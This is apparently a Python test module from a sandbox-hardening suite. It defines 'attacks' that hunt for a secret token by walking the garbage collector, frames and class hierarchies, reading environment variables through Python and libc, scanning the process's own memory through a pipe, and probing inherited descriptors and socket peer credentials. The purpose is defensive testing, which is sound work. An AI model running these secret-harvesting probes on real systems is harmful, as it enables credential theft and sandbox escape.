"""Walks over everything that the interpreter holds. The claim: nothing of value is there.

The secrets of the trial are in the engine's environment and memory, in the files of the project, in a sibling's run and
in descriptors the engine holds. A plain process stands for an engine that runs scripts in its own process: there all of
these walks find what is in its environment, or the descriptors that it inherited.
"""

from __future__ import annotations

from attack import Attack

SEARCH = """
import gc, re
pattern = re.compile("gwtok-[0-9a-f]{32}")

def search(roots):
    '''Report every secret in what can be reached from ``roots`` by any reference at all.'''
    seen, level, found = {id(roots)}, [roots], set()
    while level:
        following = []
        for item in gc.get_referents(*level):
            if id(item) in seen or item is seen or item is following or item is level:
                continue
            seen.add(id(item))
            if isinstance(item, (str, bytes, bytearray)):
                found.update(pattern.findall(text(item)))
            else:
                following.append(item)
        level = following
    tell(len(seen), "objects", *found)
"""

WALKS = {
    "modules": "search([sys.modules])",
    "collector": "gc.unfreeze()\nsearch(gc.get_objects())",
    "subclasses": """
kinds, level = {}, [object]
while level:
    kind = level.pop()
    for below in type.__subclasses__(kind):
        if below not in kinds:
            kinds[below] = vars(below)
            level.append(below)
search([kinds, [getattr(getattr(k, "__init__", None), "__globals__", None) for k in kinds]])
""",
    "frames": """
frame, frames = sys._getframe(), []
while frame:
    frames.append((frame.f_globals, frame.f_locals, frame.f_builtins, frame.f_code, frame))
    frame = frame.f_back
search(frames + list(sys._current_frames().values()))
""",
    "generator-frame": """
def walk():
    frame = own.gi_frame
    while frame:
        yield (frame.f_globals, frame.f_locals)
        frame = frame.f_back
own = walk()
search(list(own))
""",
    "traceback": """
try:
    1 / 0
except ZeroDivisionError as error:
    frame, spaces = error.__traceback__.tb_frame, []
    while frame:
        spaces += [frame.f_globals, frame.f_locals]
        frame = frame.f_back
    search(spaces)
""",
    "audit-and-trace": """
spaces = []
def trace(frame, event, argument):
    spaces.append((frame.f_globals, frame.f_locals, frame.f_back and frame.f_back.f_locals, argument))
    return trace
sys.settrace(trace); sys.setprofile(trace)
sys.stdout.write("x"); sys.stdout.flush()
sys.settrace(None); sys.setprofile(None)
search(spaces)
""",
    "exit-hooks": """
import atexit, weakref
search([gc.get_referrers(atexit), gc.get_referrers(sys.stdout), sys.excepthook, sys.unraisablehook, sys.meta_path,
        sys.path_hooks, sys.path_importer_cache, sys.argv, sys.orig_argv, sys.flags, sys._xoptions, sys.warnoptions])
""",
    "environ": "import posix\ntell(dict(os.environ), posix.environ, os.environb)",
    "environ-of-c": """
libc.getenv.restype = ctypes.c_char_p
tell(libc.getenv(b"GATEWRIGHT_SECRET"))
entries = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
number = 0
while entries and entries[number]:
    tell(text(entries[number]))
    number += 1
""",
}

OWN_MEMORY = """
import re
pattern = re.compile(b"gwtok-[0-9a-f]{32}")
reading, writing = os.pipe()

def look(start, end):
    '''Every page that is there: write(2) tells what is not by EFAULT.'''
    for page in range(start & -4096, end, 4096):
        try:
            copied = libc.write(writing, ctypes.c_void_p(page), 4096)
        except OSError:
            continue
        if copied > 0:
            found.update(pattern.findall(os.read(reading, copied)))

found = set()
libc.sbrk.restype = ctypes.c_void_p
end = libc.sbrk(ctypes.c_long(0))
look(end - (24 << 20), end)
stack = ctypes.cast(ctypes.c_void_p.in_dll(libc, "environ"), ctypes.c_void_p).value
start = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value if hasattr(libc, "__libc_stack_end") else stack
look(start - (1 << 20), start + (1 << 20))
for kind in (bytearray(100), [0] * 1000, "text" * 100, object()):
    look((id(kind) & -(1 << 20)) - (2 << 20), (id(kind) & -(1 << 20)) + (2 << 20))
tell(len(found), *found)
"""

DESCRIPTORS = """
import stat
for fd in range(4, 4096):
    try:
        status = os.fstat(fd)
    except OSError:
        continue
    won(f"descriptor {fd}: {oct(status.st_mode)}")
"""

PEER = """
import socket
def is_open(fd):
    with contextlib.suppress(OSError):
        return os.fstat(fd)
for fd in list(filter(is_open, range(1024))):
    try:
        s = socket.socket(fileno=os.dup(fd))
    except OSError:
        continue
    with contextlib.suppress(OSError):
        tell(fd, s.family, s.type, s.getsockname(), s.getpeername())
    with contextlib.suppress(OSError):
        pid, uid, gid = struct.unpack("3i", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
        if pid > 1 and pid != os.getpid():
            won(f"the process {pid} is behind descriptor {fd}")
    with contextlib.suppress(OSError):
        won(f"a pidfd of the process behind {fd}: {s.getsockopt(socket.SOL_SOCKET, 77)}")
"""

SOCKET_OBJECTS = """
import gc
gc.unfreeze()
for item in gc.get_objects():
    name = type(item).__name__
    if name in ("socket", "SSLSocket", "BufferedRandom", "BufferedReader", "FileIO", "mmap", "Popen"):
        try:
            fd = item.fileno() if hasattr(item, "fileno") else -1
            if fd > 3:
                won(f"{name} with descriptor {fd}")
            tell(name, fd)
        except (OSError, ValueError) as error:
            tell(name, error)
"""

PREPARE = "import posix, json, logging, warnings, atexit, threading\n"

ATTACKS = [
    *(Attack(name=f"walk-{name}", code=PREPARE + SEARCH + code, shows="token") for name, code in WALKS.items()),
    Attack(name="own-memory", code=OWN_MEMORY, shows="token", wall=6.0),
    Attack(name="descriptors", code=DESCRIPTORS),
    Attack(name="peer", code=PEER),
    Attack(name="socket-objects", code=SOCKET_OBJECTS),
]
